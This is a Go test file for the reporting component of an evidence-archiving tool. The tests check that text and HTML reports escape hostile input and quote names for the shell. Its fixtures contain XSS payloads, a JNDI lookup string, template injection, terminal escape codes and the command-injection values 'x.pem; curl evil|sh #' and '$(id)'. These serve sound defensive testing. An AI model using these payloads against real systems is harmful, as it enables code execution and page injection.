package report_test

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"packhorse/cmd/packhorse/report"
	"packhorse/internal/investigation"
	"packhorse/internal/manifest"
	"packhorse/internal/verify"
)

var update = flag.Bool("update", false, "rewrite the golden files; review the diff")

const (
	stem = "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11/0123456789abcdef0123456789abcdef01234567/" +
		"20260304T050607Z_5382f7ea-7557-4ab7-9782-d50480024a4e"

	// hostile is a comment that a malicious requestor could write.
	hostile = "</script><script>alert(1)</script> <img src=x onerror=alert(1)> \"quoted\" \x1b[2J \x00 \u202e " +
		"' --> ${jndi:ldap://x} {{7*7}} \r\n\r\nPASS javascript:alert(1) Ünï © 漢字"
)

var at = time.Date(2026, 3, 4, 5, 6, 7, 891_000_000, time.UTC)

func digest(letter string) string { return strings.Repeat(letter, 64) }

func manifestOf(outcome manifest.Outcome) manifest.Manifest {
	exchange := func(host string) *manifest.Exchange {
		return &manifest.Exchange{
			AskedAt: at.Add(time.Hour), AnsweredAt: at.Add(time.Hour + 120*time.Millisecond), Host: host,
			TLSVersion: "TLS 1.3", CertificateSHA256: digest("c"), RequestID: "req-1", CorrelationID: "cor-1",
		}
	}
	m := manifest.Manifest{
		Version: "2", Outcome: outcome,
		Action: manifest.Action{
			ID: "5382f7ea-7557-4ab7-9782-d50480024a4e", Type: "CollectInvestigationPackage",
			TenantID:        "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11",
			MachineID:       "0123456789abcdef0123456789abcdef01234567",
			ComputerDNSName: "fin-ws-17.contoso.com", Requestor: "a.lindqvist@contoso.com",
			RequestorComment: "INC-4711 suspicious PowerShell", CaseID: "INC-4711", RequestSource: "Portal",
			Status: "Succeeded", CreatedAt: at, CompletedAt: at.Add(9 * time.Minute),
		},
		Software:  manifest.Software{Name: "packhorse", Version: "1.2.3", Commit: "abcdef0"},
		Custody:   manifest.Custody{Principal: "root@station", SealedAt: at.Add(time.Hour)},
		Signature: manifest.Signature{Algorithm: "ECDSA-P256-SHA256", KeyID: digest("e"), Key: "signing-key.pem"},
		Chain:     manifest.Chain{Sequence: 7, Previous: digest("d")},
	}
	m.Collection = &manifest.Collection{
		Attempts: 3, Earlier: []manifest.EarlierAttempt{{EndedAt: at.Add(30 * time.Minute), Message: "the answer was 500"}},
		Link: exchange("api.securitycenter.microsoft.com"), Download: exchange("x.blob.core.windows.net"),
	}
	switch outcome {
	case manifest.OutcomeArchived:
		m.Object = &manifest.Object{
			Bucket: "evidence", Key: "packages/" + stem + ".zip", VersionID: "v1", Size: 3 << 20,
			SHA256: digest("a"), CRC32C: "36V5dA==", PartSize: 8 << 20,
			Retention: &manifest.Retention{Mode: "GOVERNANCE", Until: at.AddDate(1, 0, 0), LegalHold: true},
		}
		m.Content = &manifest.Content{
			Entries: 19, UncompressedSize: 5 << 20, TopLevel: []string{"Autoruns/", "Processes/"},
			Remarks: []string{`1 name leads out of the folder it is unpacked in: "../x".`},
		}
	case manifest.OutcomeQuarantined:
		m.Object = &manifest.Object{
			Bucket: "evidence", Key: "quarantine/" + stem + ".bin", Size: 31, SHA256: digest("a"), CRC32C: "36V5dA==",
		}
	default:
		m.Collection.Link, m.Collection.Download = nil, nil
		m.NotCollected = &manifest.NotCollected{
			Reason: investigation.ReasonInvalid, Message: "it is no ZIP",
			Quarantine: &manifest.Quarantine{Key: "quarantine/" + stem + ".bin"},
		}
	}
	return m
}

func summary(m manifest.Manifest) verify.Summary {
	folder := map[manifest.Outcome]string{
		manifest.OutcomeArchived: "packages/", manifest.OutcomeNotCollected: "not-collected/",
		manifest.OutcomeQuarantined: "quarantine/",
	}[m.Outcome]
	s := verify.Subject{
		Key: folder + stem + ".json", ManifestKey: folder + stem + ".json", Manifest: m, Digest: digest("b"),
	}
	if m.Object != nil {
		s.Key = m.Object.Key
	}
	for _, check := range []verify.Check{verify.CheckManifest, verify.CheckSignature, verify.CheckObject} {
		s.Results = append(s.Results, verify.Result{Check: check, Verdict: verify.VerdictOK})
	}
	sum := verify.Summary{Scope: verify.Scope{Key: s.Key}, EndedAt: at.AddDate(0, 3, 0)}
	if m.Outcome == manifest.OutcomeArchived {
		lock := verify.Result{
			Check: verify.CheckLock, Verdict: verify.VerdictNotChecked, Why: "this is a copy, which has none",
		}
		s.Results = append(s.Results, lock)
		sum.Gaps = []verify.Gap{
			{Check: verify.CheckLock, Why: lock.Why, Manifests: 1},
			{Check: verify.CheckKey, Why: verify.WhyKeyNotTrusted},
		}
	}
	sum.Subjects = []verify.Subject{s}
	return sum
}

func write(t *testing.T, sum verify.Summary) (text, page string) {
	t.Helper()
	r, err := report.New(sum, sum.Scope.Key)
	if err != nil {
		t.Fatal(err)
	}
	var a, b bytes.Buffer
	if err := r.Text(&a); err != nil {
		t.Fatal(err)
	}
	if err := r.HTML(&b); err != nil {
		t.Fatal(err)
	}
	return a.String(), b.String()
}

func TestGolden(t *testing.T) {
	t.Parallel()
	for _, outcome := range []manifest.Outcome{
		manifest.OutcomeArchived, manifest.OutcomeNotCollected, manifest.OutcomeQuarantined,
	} {
		text, page := write(t, summary(manifestOf(outcome)))
		for ending, got := range map[string]string{".txt": text, ".html": page} {
			path := filepath.Join("testdata", string(outcome)+ending)
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("%s differs: got\n%s", path, got)
			}
		}
	}
}

// TestLines: lines have at most 100 characters unless a single word is longer.
func TestLines(t *testing.T) {
	t.Parallel()
	text, _ := write(t, summary(manifestOf(manifest.OutcomeArchived)))
	for line := range strings.Lines(text) {
		if n := utf8.RuneCountInString(strings.TrimSpace(line)); n > 100 && strings.Count(line, "/") < 3 {
			t.Errorf("%d characters: %s", n, line)
		}
	}
}

// TestHostile: foreign text can neither control a terminal nor inject markup into the page.
func TestHostile(t *testing.T) {
	t.Parallel()
	for _, outcome := range []manifest.Outcome{manifest.OutcomeArchived, manifest.OutcomeNotCollected} {
		m := manifestOf(outcome)
		m.Action.RequestorComment, m.Action.ComputerDNSName, m.Action.Requestor = hostile, hostile, hostile
		m.Action.CaseID, m.Custody.Principal, m.Signature.Key = hostile, hostile, hostile
		m.Collection.Earlier[0].Message = hostile
		if m.Content != nil {
			m.Content.TopLevel, m.Content.Remarks = []string{hostile}, []string{hostile}
		}
		sum := summary(m)
		sum.Findings = []verify.Finding{{Key: hostile, Check: verify.CheckObject, What: hostile, Found: hostile}}
		sum.Problems = []verify.Problem{{Finding: sum.Findings[0], Because: sum.Findings}}
		text, page := write(t, sum)
		for _, bad := range []string{"\x1b", "\x00", "\u202e", "\r"} {
			if strings.Contains(text, bad) || strings.Contains(page, bad) {
				t.Errorf("the text contains %q", bad)
			}
		}
		for _, bad := range []string{"<script", "<img", "onerror=alert(1)>", "49"} {
			if strings.Contains(page, bad) {
				t.Errorf("the page contains %q", bad)
			}
		}
		for line := range strings.Lines(text) {
			if strings.HasPrefix(line, "VERIFIED") || strings.HasPrefix(line, "PASS") {
				t.Errorf("a comment forged the line %q", line)
			}
		}
		if !strings.Contains(text, "\nFAIL on") || !strings.Contains(page, `class="verdict FAIL"`) {
			t.Error("the report does not show the verdict FAIL")
		}
	}
}

// TestNothingToPaste: commands never contain unverified names, and names in commands are quoted for the shell.
func TestNothingToPaste(t *testing.T) {
	t.Parallel()
	const evil = "x.pem; curl evil|sh #"
	for _, tt := range []struct {
		name string
		do   func(s *verify.Subject, sum *verify.Summary)
	}{
		{"a problem", func(_ *verify.Subject, sum *verify.Summary) {
			sum.Problems = []verify.Problem{{Finding: verify.Finding{Key: "k", Check: verify.CheckLedger, What: "x"}}}
		}},
		{"a signature that is not one", func(s *verify.Subject, _ *verify.Summary) {
			s.Results[1].Verdict = verify.VerdictMismatch
		}},
		{"a signature that was not checked", func(s *verify.Subject, _ *verify.Summary) {
			s.Results[1].Verdict = verify.VerdictNotChecked
		}},
	} {
		sum := summary(manifestOf(manifest.OutcomeArchived))
		sum.Subjects[0].Manifest.Signature.KeyID = evil
		tt.do(&sum.Subjects[0], &sum)
		text, page := write(t, sum)
		if strings.Contains(text, "openssl") || strings.Contains(page, "openssl") ||
			strings.Contains(text, "  $ ") {
			t.Errorf("%s: unexpected commands in %s", tt.name, text)
		}
	}
	sum := summary(manifestOf(manifest.OutcomeArchived))
	sum.Subjects[0].Manifest.Signature.KeyID = evil
	sum.Subjects[0].ManifestKey = "packages/$(id)'.json"
	text, _ := write(t, sum)
	for _, want := range []string{`'` + evil + `.pem'`, `'$(id)'\''.json'`, `'$(id)'\''.json.sig'`} {
		if !strings.Contains(text, want) {
			t.Errorf("%s is missing in %s", want, text)
		}
	}
}

// TestLedgerReport: without a manifest the report shows the ledger entry and says that it proves nothing.
func TestLedgerReport(t *testing.T) {
	t.Parallel()
	m := manifestOf(manifest.OutcomeArchived)
	sum := summary(m)
	s := &sum.Subjects[0]
	s.Manifest, s.Results, sum.Gaps = manifest.Manifest{}, nil, nil
	s.Record = &investigation.Record{
		Action: investigation.Action{
			ID:        investigation.ID{TenantID: m.Action.TenantID, ActionID: m.Action.ID},
			MachineID: m.Action.MachineID, ComputerDNSName: "fin-ws-17.contoso.com", CaseID: "INC-4711",
			Requestor: "a.lindqvist@contoso.com", CreatedAt: at,
		},
		State:   investigation.StateDone,
		Receipt: investigation.Receipt{Bucket: "evidence", Key: m.Object.Key, Size: 77, SHA256: digest("a")},
		Seal:    investigation.Seal{Sequence: 7, Digest: digest("9")}, ManifestKey: s.ManifestKey,
	}
	f := verify.Finding{Key: s.ManifestKey, Check: verify.CheckLedger, What: "not in the archive", Headline: "manifest missing"}
	sum.Problems = []verify.Problem{{Finding: f}}
	text, page := write(t, sum)
	for _, want := range []string{
		"FAIL on", "manifest missing", "fin-ws-17.contoso.com, case INC-4711", digest("a"), digest("9"),
		"77 bytes", "proves nothing by itself",
	} {
		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) || !strings.Contains(page, want) {
			t.Errorf("%q is missing in %s", want, text)
		}
	}
	if strings.Contains(text, "openssl") {
		t.Error("unexpected commands")
	}
	s.Record = nil
	if _, err := report.New(sum, sum.Scope.Key); err == nil {
		t.Error("New succeeded without a manifest and a record")
	}
}

// TestStrangers: each stranger is listed once, with the source that knows it.
func TestStrangers(t *testing.T) {
	t.Parallel()
	m := manifestOf(manifest.OutcomeArchived)
	m.Strangers = []manifest.Stranger{{Key: "packages/x.zip", VersionID: "v0", Size: 5, SHA256: digest("5"), FoundAt: at}}
	m.StrangersMore = 2
	sum := summary(m)
	rec := investigation.Record{Strangers: investigation.Strangers("").Add(
		investigation.Stranger(m.Strangers[0]),
		investigation.Stranger{Key: "packages/x.json", Size: 6, Note: "it is too large", FoundAt: at})}
	sum.Subjects[0].Record = &rec
	text, _ := write(t, sum)
	text = strings.Join(strings.Fields(text), " ")
	for _, want := range []string{
		"packages/x.zip, version v0, 5 bytes, SHA-256 " + digest("5") + ", found 4 March 2026",
		"packages/x.json, 6 bytes, it is too large", "counts 2 more",
	} {
		if strings.Count(text, want) != 1 {
			t.Errorf("%q does not appear exactly once in %s", want, text)
		}
	}
}

// TestSelfContained: the page does not load external resources.
func TestSelfContained(t *testing.T) {
	t.Parallel()
	_, page := write(t, summary(manifestOf(manifest.OutcomeArchived)))
	for _, bad := range []string{"http:", "https:", "src=", "href=", "url(", "@import", "<script"} {
		if strings.Contains(page, bad) {
			t.Errorf("the page contains %q", bad)
		}
	}
}

func TestNothing(t *testing.T) {
	t.Parallel()
	sum := summary(manifest.Manifest{Outcome: manifest.OutcomeArchived})
	if _, err := report.New(sum, sum.Scope.Key); err == nil {
		t.Error("New succeeded without a manifest and a record")
	}
}
